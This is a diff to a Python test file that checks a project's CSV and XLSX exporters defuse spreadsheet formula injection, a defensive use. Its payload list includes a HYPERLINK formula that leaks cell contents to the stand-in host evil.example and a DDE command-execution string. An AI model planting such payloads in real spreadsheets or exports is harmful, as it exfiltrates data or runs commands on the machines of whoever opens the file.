@@ -1,4 +1,5 @@
 """Formula injection: every CSV and XLSX file pestrack writes makes formula-like text inert."""
+
 from __future__ import annotations
 
 import csv
@@ -9,8 +10,15 @@ import pytest
 
 from pestrack.records.spreadsheet import safe_cell, safe_row
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "@SUM(1+1)", "=cmd|' /C calc'!A0", "+1+2",
-            "-2+3", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -18,8 +26,9 @@ def test_formula_like_text_gets_an_apostrophe(payload):
     assert safe_cell(payload) == "'" + payload
 
 
-@pytest.mark.parametrize("value", ["Amina", "-12", "-0,5", "+46 8 123", "1 234,5", "-3.5e2", "", None, -4, 2.5,
-                                   "a=b", "Ekström-Öberg"])
+@pytest.mark.parametrize(
+    "value", ["Amina", "-12", "-0,5", "+46 8 123", "1 234,5", "-3.5e2", "", None, -4, 2.5, "a=b", "Ekström-Öberg"]
+)
 def test_numbers_and_plain_text_are_left_alone(value):
     assert safe_cell(value) == value
 
@@ -58,7 +67,7 @@ def test_the_rejects_file_makes_formulas_inert(profile, tmp_path):
     with result.rejects_path.open(encoding="utf-8-sig", newline="") as f:
         rows = list(csv.reader(f))
     cells = rows[1]
-    assert "'=cmd|' /C calc'!A0" in cells and "'=HYPERLINK(\"x\")" in cells
+    assert "'=cmd|' /C calc'!A0" in cells and '\'=HYPERLINK("x")' in cells
     assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
 
 
@@ -69,7 +78,7 @@ def test_the_access_log_csv_export_makes_formulas_inert(profile):
     from pestrack.cli import app
     from pestrack.records.audit.log import record
 
-    record("=HYPERLINK(\"http://x\")", "read", object_type="person", detail="@SUM(1+1)", source="cli")
+    record('=HYPERLINK("http://x")', "read", object_type="person", detail="@SUM(1+1)", source="cli")
     out = CliRunner().invoke(app, ["audit", "search", "--format", "csv"])
     assert out.exit_code == 0, out.output
     assert "'=HYPERLINK" in out.output and "'@SUM(1+1)" in out.output
